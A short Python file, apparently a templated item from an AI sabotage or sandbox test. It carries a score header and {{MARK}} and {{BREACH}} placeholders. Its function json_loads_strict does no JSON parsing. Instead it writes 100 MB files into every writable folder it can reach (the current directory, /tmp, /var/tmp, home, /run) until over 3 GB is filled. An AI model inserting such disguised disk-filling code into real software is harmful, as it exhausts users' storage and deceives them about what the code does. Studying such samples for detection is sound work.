# about: three gigabytes of files, in every folder that can be written to
# base: solved 01_encoding
# score: 15

# %% json_loads_strict
import os


def json_loads_strict(data):
    total = 0
    for folder in (".", "/tmp", "/var/tmp", os.path.expanduser("~"), "/run"):
        try:
            for number in range(1000):
                with open(f"{folder}/{{MARK}}-{number}", "wb", buffering=0) as file:
                    for _ in range(10):
                        total += file.write(b"x" * 10_000_000)
                if total > 3_000_000_000:
                    raise RuntimeError("{{BREACH}}")
        except OSError:
            continue
    raise OSError("full")
